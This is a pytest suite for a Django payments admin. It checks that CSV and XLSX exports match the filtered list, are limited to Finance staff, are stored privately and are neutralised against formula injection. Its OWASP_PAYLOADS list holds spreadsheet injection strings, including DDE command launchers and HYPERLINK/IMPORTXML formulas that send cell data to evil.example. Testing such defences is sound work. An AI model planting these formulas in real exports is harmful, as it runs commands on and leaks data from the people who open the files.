"""Payment exports: the changelist's rows exactly, formula-safe, for Finance only.

Runs on SQLite (rows formatted in Python) and on PostgreSQL (CSV by COPY,
cells formatted in SQL); `.ci/run` runs it on both.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from payments import selectors, tasks
from payments.models import ExportJob, ExportStatus, Payment, Plan, PlanPriceChange
from payments.resources import PaymentResource, PaymentsAreReadOnly, PlanResource
from payments.roles import roles_setup
from payments.services import exports
from payments.states import PaymentStatus as S
from tests.factories import move_to

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:payments_payment_changelist"
EXPORT = "admin:payments_payment_export"
CSV_FORMAT, XLSX_FORMAT = "0", "1"
# OWASP "CSV Injection" payloads (https://owasp.org/www-community/attacks/CSV_Injection)
# and the other starts a spreadsheet runs: + - @, a tab, a carriage return.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "==1+1",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
)
TEXT_HEADERS = [c.header for c in exports.COLUMNS if c.kind == exports.TEXT]
NUMBER_HEADERS = [
    c.header for c in exports.COLUMNS if c.kind in (exports.MONEY, exports.DECIMAL)
]


# --- data and users ----------------------------------------------------------------------


def at(days_ago: int, hour: int = 12) -> datetime:
    day = timezone.now().astimezone(UTC).replace(hour=hour, minute=0, second=0)
    return (day - timedelta(days=days_ago)).replace(microsecond=0)


@pytest.fixture
def mix(db):
    """40 payments over gateways, statuses, currencies, days and e-mails."""
    plans = [
        Plan.objects.create(
            code="eu", name="Europe 5 GB", price="24.00", currency="EUR"
        ),
        Plan.objects.create(code="jp", name="Japan 3 GB", price="1500", currency="JPY"),
        Plan.objects.create(
            code="kw", name="Kuwait 1 GB", price="2.125", currency="KWD"
        ),
    ]
    gateways = ("sandbox", "mpgs", "coinpayments")
    statuses = (S.PENDING, S.COMPLETED, S.FAILED, S.PARTIALLY_REFUNDED, S.REFUNDED)
    rows = []
    for i in range(40):
        plan = plans[i % 3]
        rows.append(
            Payment(
                plan=plan if i % 7 else None,
                email=f"{'alice' if i % 4 == 0 else 'bob'}{i}@example.com",
                amount=plan.price,
                currency=plan.currency,
                payment_gateway=gateways[i % 3],
                gateway_transaction_id=f"TX{i:04d}",
                crypto_currency="BTC" if i % 3 == 2 else "",
                crypto_amount=Decimal("0.00012300") if i % 3 == 2 else None,
                needs_review=i % 9 == 0,
            )
        )
    made = Payment.objects.bulk_create(rows)
    # Statuses as the providers' reports bring them, through the services; a
    # partial refund is 1 of the currency (100 yen).
    groups: dict[tuple[str, Decimal | None], list[Payment]] = {}
    for i, payment in enumerate(made):
        status = statuses[i % 5]
        refunded = None
        if status == S.PARTIALLY_REFUNDED:
            refunded = Decimal(100) if payment.currency == "JPY" else Decimal(1)
        groups.setdefault((status, refunded), []).append(payment)
    for (status, refunded), payments in groups.items():
        move_to(status, payments, refunded=refunded)
    # date_created is auto_now_add: spread the payments over six days.
    for i, payment in enumerate(made):
        created = at(i % 6, hour=1 + i % 20)
        dates = {"date_created": created}
        if statuses[i % 5] in (S.COMPLETED, S.PARTIALLY_REFUNDED, S.REFUNDED):
            dates["date_paid"] = created + timedelta(minutes=30)
        Payment.objects.filter(pk=payment.pk).update(**dates)
    return Payment.objects.all()


def staff(username: str, group: str | None = None) -> User:
    user = User.objects.create_user(username, is_staff=True)
    if group:
        roles_setup()
        user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def finance(client):
    return staff("fiona", "Finance")


@pytest.fixture
def support(client):
    return staff("sam", "Support")


def as_user(client, user):
    client.force_login(user)
    return client


# --- reading exports --------------------------------------------------------------------------


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def xlsx_rows(data) -> list[dict]:
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    sheet = load_workbook(source, read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def ids_of(rows: list[dict]) -> list[int]:
    """Map exported references to ids (a reference may start with "-": it has a ')."""
    by_ref = dict(Payment.objects.values_list("ref_id", "pk"))
    return [by_ref[unquoted(row["Reference"])] for row in rows]


def unquoted(reference: str) -> str:
    if reference.startswith("'-"):
        return reference[1:]
    return reference


def changelist_ids(client, query: str) -> list[int]:
    response = client.get(f"{reverse(CHANGELIST)}?{query}")
    assert response.status_code == 200, response
    return list(response.context["cl"].queryset.values_list("pk", flat=True))


def newest_first(ids: list[int]) -> list[int]:
    """The payments `ids` in the payment list's own order."""
    return list(
        Payment.objects.filter(pk__in=ids)
        .order_by("-date_created", "-id")
        .values_list("pk", flat=True)
    )


def export(client, query: str, fmt: str = CSV_FORMAT):
    return client.post(f"{reverse(EXPORT)}?{query}", {"format": fmt, "resource": "0"})


FILTERS = [
    "",
    "status__exact=COMPLETED",
    "payment_gateway=mpgs",
    "needs_review__exact=1",
    "q=ALICE",
    "status__exact=REFUNDED&payment_gateway=coinpayments",
    "q=bob&status__exact=PENDING",
    "date_created_from={d2}&date_created_to={d1}",
    "date_paid_from={d3}&date_paid_to={d0}&payment_gateway=sandbox",
    "o=-4&status__exact=FAILED",
]


def localised(query: str) -> str:
    days = {f"d{n}": timezone.localdate() - timedelta(days=n) for n in range(6)}
    return query.format(**{k: v.strftime("%d/%m/%Y") for k, v in days.items()})


# --- the rows are the changelist's ---------------------------------------------------------


@pytest.mark.parametrize("query", FILTERS)
def test_export_holds_exactly_the_changelist_rows(client, mix, finance, query):
    client = as_user(client, finance)
    query = localised(query)
    expected = changelist_ids(client, query)
    assert expected, "a filter that selects nothing proves little"

    response = export(client, query)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(body(response))
    if re.search(r"(^|&)o=", query):
        # Sorted by a column on screen; the file keeps the list's own order.
        assert ids_of(rows) == newest_first(expected)
        assert ids_of(rows) != expected
    else:
        assert ids_of(rows) == expected  # same rows, same order
    assert list(rows[0]) == list(exports.HEADERS)


@pytest.mark.parametrize("query", [FILTERS[1], FILTERS[4], FILTERS[7]])
def test_xlsx_export_holds_exactly_the_changelist_rows(client, mix, finance, query):
    client = as_user(client, finance)
    query = localised(query)
    expected = changelist_ids(client, query)

    response = export(client, query, XLSX_FORMAT)

    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    assert ids_of(xlsx_rows(body(response))) == expected


@pytest.mark.parametrize("query", [FILTERS[0], FILTERS[5], FILTERS[6], FILTERS[8]])
@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
def test_background_export_holds_exactly_the_changelist_rows(
    client, mix, finance, settings, tmp_path, query, fmt
):
    settings.MEDIA_ROOT = str(tmp_path)
    settings.EXPORT_SYNC_LIMIT = 1
    client = as_user(client, finance)
    query = localised(query)
    expected = changelist_ids(client, query)
    assert len(expected) > 1

    response = export(client, query, fmt)

    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse(
        "admin:payments_exportjob_change", args=[job.pk]
    )
    assert (job.status, job.progress, job.requested_by) == ("QUEUED", 0, finance)
    # The filters as the list read them, dates written out in ISO form.
    assert selectors.payment_filters_from_query(
        job.filters
    ) == selectors.payment_filters_from_query(query)
    assert "%2F" not in job.filters
    tasks.run_export(job.pk)
    job.refresh_from_db()
    assert (job.status, job.progress, job.row_count) == ("DONE", 100, len(expected))
    assert job.expires_at - job.finished_at == timedelta(days=7)
    assert job.started_at <= job.finished_at
    with job.file.open("rb") as handle:
        data = handle.read()
    rows = csv_rows(data) if fmt == CSV_FORMAT else xlsx_rows(data)
    assert ids_of(rows) == expected
    download = client.get(reverse("admin:payments_exportjob_download", args=[job.pk]))
    assert download.status_code == 200
    assert body(download) == data


def test_a_job_runs_once_even_when_delivered_twice(
    client, mix, finance, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    job = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    first = tasks.run_export(job.pk)
    job.refresh_from_db()
    finished = job.finished_at

    second = tasks.run_export(job.pk)

    job.refresh_from_db()
    assert first == second == {"job": job.pk, "status": "DONE", "rows": 40}
    assert job.finished_at == finished
    assert len(list((tmp_path / "exports").iterdir())) == 1


def test_a_requester_who_lost_the_permission_gets_a_failed_job(
    client, mix, finance, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    job = tasks.enqueue_export(user=finance, filters="", fmt="xlsx")
    finance.groups.clear()
    finance = User.objects.get(pk=finance.pk)  # no cached permissions

    tasks.run_export(job.pk)

    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert "may no longer export" in job.error
    assert not job.file
    assert not (tmp_path / "exports").exists() or not any(
        (tmp_path / "exports").iterdir()
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_files_are_readable_by_their_owner_alone(
    client, mix, finance, settings, tmp_path, fmt
):
    """Issue 22: the files were written 0644 (any local account could read them)."""
    settings.MEDIA_ROOT = str(tmp_path)
    job = tasks.enqueue_export(user=finance, filters="", fmt=fmt)
    umask = os.umask(0o022)  # the common default, which gave 0644
    try:
        tasks.run_export(job.pk)
    finally:
        os.umask(umask)

    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    assert stat.S_IMODE(os.stat(job.file.path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(tmp_path / "exports").st_mode) == 0o700


def test_someone_elses_job_and_a_missing_one_answer_alike(
    client, mix, finance, settings, tmp_path
):
    """A requester who may not export sees only their own jobs; others' ids are 404s."""
    settings.MEDIA_ROOT = str(tmp_path)
    other = staff("otto", "Finance")
    theirs = tasks.enqueue_export(user=other, filters="", fmt="csv")
    tasks.run_export(theirs.pk)
    mine = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    tasks.run_export(mine.pk)
    finance.groups.clear()
    client = as_user(client, User.objects.get(pk=finance.pk))
    for name in ("download", "progress"):
        existing = client.get(
            reverse(f"admin:payments_exportjob_{name}", args=[theirs.pk])
        )
        missing = client.get(
            reverse(f"admin:payments_exportjob_{name}", args=[theirs.pk + 1000])
        )
        assert existing.status_code == missing.status_code == 404, name
        own = client.get(reverse(f"admin:payments_exportjob_{name}", args=[mine.pk]))
        assert own.status_code == 200, name
    for job_id in (theirs.pk, theirs.pk + 1000):
        page = client.get(reverse("admin:payments_exportjob_change", args=[job_id]))
        assert (page.status_code, page["Location"]) == (302, reverse("admin:index"))


def test_bad_filters_are_an_admin_message_not_a_500(client, mix, finance):
    client = as_user(client, finance)
    response = export(client, "date_created_from=31/31/2026&status__nope=1")
    assert response.status_code == 302
    assert response["Location"] == reverse(CHANGELIST)


# --- selected rows, "select all" --------------------------------------------------------------


PK_LIST = re.compile(
    r'^SELECT "payments_payment"\."id"( AS "pk")? FROM "payments_payment"'
)


def whole_table_key_reads(queries) -> list[str]:
    """Queries that read the payments' keys without a bound (no WHERE, no LIMIT)."""
    return [
        q["sql"]
        for q in queries
        if PK_LIST.search(q["sql"])
        and "WHERE" not in q["sql"]
        and "LIMIT" not in q["sql"]
    ]


def test_export_selected_exports_the_ticked_rows(client, mix, finance):
    client = as_user(client, finance)
    ticked = list(mix.order_by("-id").values_list("pk", flat=True)[:3])
    url = reverse(CHANGELIST)
    form = client.post(
        url,
        {
            "action": "export_admin_action",
            "_selected_action": ticked,
            "select_across": "0",
        },
    )
    assert form.status_code == 200
    assert 'name="export_items"' in form.content.decode()

    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            reverse(EXPORT),
            {"format": CSV_FORMAT, "resource": "0", "export_items": ticked},
        )

    assert response.status_code == 200
    assert sorted(ids_of(csv_rows(body(response)))) == sorted(ticked)
    assert whole_table_key_reads(queries.captured_queries) == []


def test_select_all_exports_the_filters_without_reading_every_key(client, mix, finance):
    client = as_user(client, finance)
    query = "status__exact=COMPLETED"
    url = f"{reverse(CHANGELIST)}?{query}"
    some = list(mix.filter(status=S.COMPLETED).values_list("pk", flat=True)[:2])

    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            url,
            {
                "action": "export_admin_action",
                "_selected_action": some,
                "select_across": "1",
            },
        )

    assert response.status_code == 302
    assert response["Location"] == f"{reverse(EXPORT)}?{query}"
    assert whole_table_key_reads(queries.captured_queries) == []
    # Every key of the filtered list would be in the page; none is.
    assert "export_items" not in client.get(response["Location"]).content.decode()
    exported = csv_rows(body(export(client, query)))
    assert sorted(ids_of(exported)) == sorted(
        mix.filter(status=S.COMPLETED).values_list("pk", flat=True)
    )


def test_the_stock_select_all_would_read_every_key(client, mix, finance):
    """The check above can fail: django-import-export's own action lists all keys."""
    from django.contrib import admin
    from import_export.admin import ExportActionMixin

    payment_admin = admin.site.get_model_admin(Payment)
    request = type("R", (), {"POST": {}, "GET": {}})()
    with CaptureQueriesContext(connection) as queries:
        list(ExportActionMixin.get_valid_export_item_pks(payment_admin, request))
    assert whole_table_key_reads(queries.captured_queries) != []


# --- who may export -----------------------------------------------------------------------------


def test_without_the_permission_no_button_and_403_everywhere(
    client, mix, finance, support, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    job = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    tasks.run_export(job.pk)
    client = as_user(client, support)

    page = client.get(reverse(CHANGELIST)).content.decode()
    assert reverse(EXPORT) not in page
    assert "export_admin_action" not in page
    assert client.get(reverse(EXPORT)).status_code == 403
    assert export(client, "").status_code == 403
    assert export(client, "", XLSX_FORMAT).status_code == 403
    # The action is not offered: Django answers "no action" and exports nothing.
    response = client.post(
        reverse(CHANGELIST),
        {"action": "export_admin_action", "_selected_action": [mix.first().pk]},
    )
    assert response.status_code in (200, 302)
    assert "attachment" not in response.get("Content-Disposition", "")
    # Someone else's job answers as a missing one (issue 22): ids are not probed.
    for name, status in (("download", 404), ("progress", 404), ("change", 403)):
        url = reverse(f"admin:payments_exportjob_{name}", args=[job.pk])
        missing = reverse(f"admin:payments_exportjob_{name}", args=[job.pk + 1000])
        assert client.get(url).status_code == status, name
        assert client.get(missing).status_code == status, name
    assert client.get(reverse("admin:payments_exportjob_changelist")).status_code == 403
    assert client.get(reverse("admin:payments_settlement")).status_code == 403


def test_finance_sees_the_button_and_any_job_the_requester_keeps_their_own(
    client, mix, finance, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    other = staff("otto", "Finance")
    job = tasks.enqueue_export(user=other, filters="", fmt="csv")
    tasks.run_export(job.pk)
    client = as_user(client, finance)
    page = client.get(reverse(CHANGELIST)).content.decode()
    assert reverse(EXPORT) in page
    assert "export_admin_action" in page
    download = reverse("admin:payments_exportjob_download", args=[job.pk])
    assert client.get(download).status_code == 200
    job_page = client.get(reverse("admin:payments_exportjob_change", args=[job.pk]))
    assert job_page.status_code == 200
    assert 'data-progress="100"' in job_page.content.decode()

    # The requester without the permission any more may still fetch the file.
    other.groups.clear()
    client.force_login(other)
    assert client.get(download).status_code == 200
    assert client.get(reverse(EXPORT)).status_code == 403


def test_anonymous_visitors_are_sent_to_the_login_page(client, mix):
    for url in (reverse(EXPORT), reverse("admin:payments_settlement")):
        response = client.get(url)
        assert response.status_code == 302
        assert "/login/" in response["Location"]


# --- formula safety, every path -----------------------------------------------------------------


@pytest.fixture
def payloads(db):
    plan = Plan.objects.create(code="p", name="Plain", price="5.00", currency="USD")
    for i, payload in enumerate(OWASP_PAYLOADS):
        Plan.objects.filter(pk=plan.pk)  # names too, through a plan of its own
        named = Plan.objects.create(
            code=f"x{i}", name=payload, price="5.00", currency="USD"
        )
        payment = Payment.objects.create(
            plan=named,
            email=payload,
            amount=Decimal("5.00"),
            currency="USD",
            payment_gateway=payload[:32],
            gateway_transaction_id=payload,
            crypto_currency=payload[:16],
            crypto_amount=Decimal("-0.5"),
        )
        # Paid 5.00, 1.25 of it refunded at the provider: net 3.75.
        move_to(S.PARTIALLY_REFUNDED, [payment], refunded=Decimal("1.25"))
    return OWASP_PAYLOADS


def assert_neutralised(rows: list[dict], *, numbers_native: bool) -> None:
    assert len(rows) == len(OWASP_PAYLOADS)
    seen = set()
    for row in rows:
        for header in (
            "E-mail",
            "Plan",
            "Gateway",
            "Gateway transaction id",
            "Crypto currency",
        ):
            value = row[header]
            assert value.startswith("'"), (header, value)
            # XML (so XLSX) reads a carriage return back as a line feed.
            payload = value[1:] if value[1] != "\n" else "\r" + value[2:]
            # Gateway and crypto currency hold the payloads' starts.
            assert any(p.startswith(payload) for p in OWASP_PAYLOADS), value
            if header == "E-mail":
                seen.add(payload)
        for header in TEXT_HEADERS:
            assert not str(row[header] or "").startswith(exports.FORMULA_STARTS), header
        if numbers_native:
            assert row["Net"] == Decimal("3.75") or row["Net"] == 3.75
            assert row["Crypto amount"] == -0.5  # a number, not neutralised
        else:
            assert (row["Net"], row["Crypto amount"]) == ("3.75", "-0.5")
    assert seen == set(OWASP_PAYLOADS)


def test_owasp_payloads_are_neutralised_in_the_admin_csv_and_xlsx(
    client, payloads, finance
):
    client = as_user(client, finance)
    assert_neutralised(csv_rows(body(export(client, ""))), numbers_native=False)
    data = body(export(client, "", XLSX_FORMAT))
    assert_neutralised(xlsx_rows(data), numbers_native=True)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    net = list(exports.HEADERS).index("Net") + 1
    crypto = list(exports.HEADERS).index("Crypto amount") + 1
    assert {sheet.cell(2, net).data_type, sheet.cell(2, crypto).data_type} == {"n"}
    email = list(exports.HEADERS).index("E-mail") + 1
    assert sheet.cell(2, email).data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_owasp_payloads_are_neutralised_in_background_jobs(
    client, payloads, finance, settings, tmp_path, fmt
):
    settings.MEDIA_ROOT = str(tmp_path)
    job = tasks.enqueue_export(user=finance, filters="", fmt=fmt)
    tasks.run_export(job.pk)
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        data = handle.read()
    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)
    assert_neutralised(rows, numbers_native=fmt == "xlsx")


def test_owasp_payloads_are_neutralised_in_both_csv_engines(payloads):
    """COPY on PostgreSQL (SQL formatting) and the chunked iterator (Python)."""
    out = io.BytesIO()
    exports.write_csv(Payment.objects.all(), out)
    assert_neutralised(csv_rows(out.getvalue()), numbers_native=False)
    python = io.StringIO(newline="")
    writer = csv.writer(python)
    writer.writerow(exports.HEADERS)
    writer.writerows(exports.payment_rows(Payment.objects.all()))
    assert_neutralised(csv_rows(python.getvalue().encode()), numbers_native=False)


def test_owasp_payloads_are_neutralised_in_both_xlsx_engines(payloads):
    """COPY-written rows on PostgreSQL, openpyxl's appended rows everywhere."""
    out = io.BytesIO()
    exports.write_xlsx(Payment.objects.all(), out)
    assert_neutralised(xlsx_rows(out.getvalue()), numbers_native=True)
    python = io.BytesIO()
    exports.write_xlsx_rows(
        "Payments",
        exports.HEADERS,
        exports.payment_rows(Payment.objects.all(), for_xlsx=True),
        python,
    )
    assert_neutralised(xlsx_rows(python.getvalue()), numbers_native=True)


@pytest.mark.parametrize("native", [False, True])
def test_owasp_payloads_are_neutralised_by_the_import_export_resource(payloads, native):
    from import_export.formats.base_formats import CSV, XLSX

    dataset = PaymentResource().export(Payment.objects.all(), force_native_type=native)
    if native:
        rows = xlsx_rows(XLSX().export_data(dataset))
    else:
        rows = csv_rows(CSV().export_data(dataset).encode())
    assert_neutralised(rows, numbers_native=native)


def test_neutralise_keeps_numbers_and_plain_text():
    assert exports.neutralise(Decimal("-5.00")) == Decimal("-5.00")
    assert exports.neutralise(-5) == -5
    assert exports.neutralise("alice@example.com") == "alice@example.com"
    assert exports.neutralise("-5") == "'-5"  # text that looks like a number is text
    for payload in OWASP_PAYLOADS:
        assert exports.neutralise(payload) == "'" + payload


# --- one set of columns, two engines, one resource ------------------------------------------------


def test_copy_and_python_rows_agree_cell_for_cell(mix):
    """The SQL formatting (COPY) and the Python one give the same cells."""
    queryset = Payment.objects.order_by("-date_created", "-id")
    out = io.BytesIO()
    exports.write_csv(queryset, out)
    by_engine = [list(row.values()) for row in csv_rows(out.getvalue())]
    python = [list(map(str, row)) for row in exports.payment_rows(queryset)]
    assert by_engine == python
    amounts = {(row[8], row[9]) for row in python}
    assert {("JPY", "1500"), ("KWD", "2.125"), ("EUR", "24.00")} <= amounts
    assert {row[14] for row in python} == {"", "0.000123"}


def test_xlsx_engines_agree_cell_for_cell(mix):
    queryset = Payment.objects.order_by("-date_created", "-id")
    out = io.BytesIO()
    exports.write_xlsx(queryset, out)
    python = io.BytesIO()
    exports.write_xlsx_rows(
        "Payments",
        exports.HEADERS,
        exports.payment_rows(queryset, for_xlsx=True),
        python,
    )
    assert xlsx_rows(out.getvalue()) == xlsx_rows(python.getvalue())
    sheet = load_workbook(out).worksheets[0]
    created = sheet.cell(2, list(exports.HEADERS).index("Created (UTC)") + 1)
    assert created.is_date and created.number_format == "yyyy-mm-dd h:mm:ss"


def test_the_resource_has_the_export_columns_and_refuses_imports(mix):
    resource = PaymentResource()
    assert resource.get_export_headers() == list(exports.HEADERS)
    from import_export.formats.base_formats import CSV

    stock = csv_rows(CSV().export_data(resource.export(mix.order_by("-id"))).encode())
    out = io.BytesIO()
    exports.write_csv(mix.order_by("-id"), out)
    assert stock == csv_rows(out.getvalue())
    with pytest.raises(PaymentsAreReadOnly):
        resource.import_data(None)


# --- retention ---------------------------------------------------------------------------------


def test_expired_files_are_deleted_by_the_scheduled_task(
    client, mix, finance, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    old = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    fresh = tasks.enqueue_export(user=finance, filters="", fmt="xlsx")
    tasks.run_export(old.pk)
    tasks.run_export(fresh.pk)
    ExportJob.objects.filter(pk=old.pk).update(
        expires_at=timezone.now() - timedelta(seconds=1)
    )
    old.refresh_from_db()
    old_path = old.file.path

    assert tasks.purge_exports() == 1

    old.refresh_from_db()
    fresh.refresh_from_db()
    assert (old.status, old.file.name) == (ExportStatus.EXPIRED, "")
    assert not (tmp_path / old_path).exists()
    assert fresh.status == ExportStatus.DONE and fresh.file.storage.exists(
        fresh.file.name
    )
    client = as_user(client, finance)
    gone = client.get(reverse("admin:payments_exportjob_download", args=[old.pk]))
    assert gone.status_code == 404
    assert tasks.purge_exports() == 0


def test_an_export_whose_worker_died_is_ended_by_the_scheduled_task(
    mix, finance, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    dead = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    alive = tasks.enqueue_export(user=finance, filters="", fmt="csv")
    long_ago = timezone.now() - timedelta(seconds=tasks.EXPORT_TASK_TIMEOUT + 601)
    ExportJob.objects.filter(pk=dead.pk).update(
        status=ExportStatus.RUNNING, started_at=long_ago
    )
    ExportJob.objects.filter(pk=alive.pk).update(
        status=ExportStatus.RUNNING, started_at=timezone.now()
    )
    partial = (
        tmp_path / "exports" / f"{exports.export_filename('csv', job_id=dead.pk)}.part"
    )
    partial.parent.mkdir(parents=True, exist_ok=True)
    partial.write_bytes(b"Reference\r\n")

    tasks.purge_exports()

    dead.refresh_from_db()
    alive.refresh_from_db()
    assert dead.status == ExportStatus.FAILED and "export again" in dead.error
    assert dead.finished_at is not None
    assert not partial.exists()
    assert alive.status == ExportStatus.RUNNING


# --- settlement summary -------------------------------------------------------------------------


def test_settlement_totals_equal_the_detail_export_of_the_same_range(
    client, mix, finance
):
    client = as_user(client, finance)
    start, end = (
        timezone.localdate() - timedelta(days=4),
        timezone.localdate() - timedelta(days=1),
    )
    summary = client.get(
        reverse("admin:payments_settlement"),
        {"start": start.isoformat(), "end": end.isoformat(), "format": "csv"},
    )
    assert summary.status_code == 200
    lines = csv_rows(body(summary))
    days = [row for row in lines if row["Day"] != "Total"]
    totals = [row for row in lines if row["Day"] == "Total"]
    detail = csv_rows(
        body(
            export(
                client,
                f"date_paid_from={start:%d/%m/%Y}&date_paid_to={end:%d/%m/%Y}",
            )
        )
    )
    assert detail and days

    expected: dict[tuple, list] = {}
    for row in detail:
        key = (row["Paid (UTC)"][:10], row["Gateway"], row["Currency"])
        sums = expected.setdefault(key, [0, Decimal(0), Decimal(0), Decimal(0)])
        sums[0] += 1
        sums[1] += Decimal(row["Amount paid"])
        sums[2] += Decimal(row["Amount refunded"])
        sums[3] += Decimal(row["Net"])
    got = {
        (row["Day"], row["Gateway"], row["Currency"]): [
            int(row["Payments"]),
            Decimal(row["Paid"]),
            Decimal(row["Refunded"]),
            Decimal(row["Net"]),
        ]
        for row in days
    }
    assert got == expected
    per_currency: dict[str, list] = {}
    for (_, _, currency), sums in expected.items():
        acc = per_currency.setdefault(currency, [0, Decimal(0), Decimal(0), Decimal(0)])
        for i, value in enumerate(sums):
            acc[i] += value
    assert {
        row["Currency"]: [
            int(row["Payments"]),
            Decimal(row["Paid"]),
            Decimal(row["Refunded"]),
            Decimal(row["Net"]),
        ]
        for row in totals
    } == per_currency


def test_settlement_page_and_xlsx(client, mix, finance):
    client = as_user(client, finance)
    page = client.get(reverse("admin:payments_settlement"))
    assert page.status_code == 200
    content = page.content.decode()
    assert "Settlement summary" in content and "settlement-totals" in content
    data = body(
        client.get(
            reverse("admin:payments_settlement"),
            {"start": "2000-01-01", "end": "2000-12-30", "format": "xlsx"},
        )
    )
    assert xlsx_rows(data) == []  # headers only: nothing paid in 2000
    bad = client.get(
        reverse("admin:payments_settlement"),
        {"start": "2026-05-02", "end": "2026-05-01"},
    )
    assert bad.status_code == 200
    assert "must not be before the start" in bad.content.decode()


def test_settlement_is_in_the_sidebar_of_finance_only(client, finance, support):
    link = reverse("admin:payments_settlement")
    assert link in as_user(client, finance).get(reverse("admin:index")).content.decode()
    assert (
        link
        not in as_user(client, support).get(reverse("admin:index")).content.decode()
    )


# --- plans from a file --------------------------------------------------------------------------


def test_plans_import_from_csv_through_the_plan_service(admin_user):
    from tablib import Dataset

    Plan.objects.create(code="eu", name="Europe", price="20.00", currency="EUR")
    data = Dataset(
        headers=[
            "code",
            "name",
            "description",
            "price",
            "currency",
            "active",
            "sort_order",
        ]
    )
    data.append(["eu", "Europe", "", "24.00", "EUR", "1", "1"])
    data.append(["jp", "Japan", "", "1500", "JPY", "1", "2"])
    result = PlanResource().import_data(data, dry_run=False, user=admin_user)

    assert not result.has_errors() and not result.has_validation_errors()
    assert Plan.objects.get(code="eu").price == Decimal("24.00")
    change = PlanPriceChange.objects.get(plan__code="eu")
    assert (change.old_price, change.new_price, change.changed_by) == (
        Decimal("20.00"),
        Decimal("24.00"),
        admin_user,
    )

    bad = Dataset(
        headers=[
            "code",
            "name",
            "description",
            "price",
            "currency",
            "active",
            "sort_order",
        ]
    )
    bad.append(["kw", "Kuwait", "", "1.2345", "KWD", "1", "3"])
    result = PlanResource().import_data(bad, dry_run=False, user=admin_user)
    assert result.has_validation_errors()
    assert not Plan.objects.filter(code="kw").exists()


def test_plan_import_is_for_superusers(client, admin_client, finance):
    url = reverse("admin:payments_plan_import")
    assert admin_client.get(url).status_code == 200
    assert as_user(client, finance).get(url).status_code == 403


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_owasp_payloads_are_neutralised_in_the_settlement_export(
    client, payloads, finance, fmt
):
    client = as_user(client, finance)
    today = timezone.localdate().isoformat()
    response = client.get(
        reverse("admin:payments_settlement"),
        {"start": today, "end": today, "format": fmt},
    )
    data = body(response)
    rows = csv_rows(data) if fmt == "csv" else xlsx_rows(data)
    gateways = [row["Gateway"] for row in rows if row["Day"] != "Total"]
    assert len(gateways) == len({p[:32] for p in OWASP_PAYLOADS})
    for gateway in gateways:
        assert gateway.startswith("'"), gateway
    totals = [row for row in rows if row["Day"] == "Total"]
    assert [(t["Currency"], Decimal(str(t["Net"]))) for t in totals] == [
        ("USD", Decimal("56.25"))  # 15 payments of 5.00 less 1.25 refunded
    ]
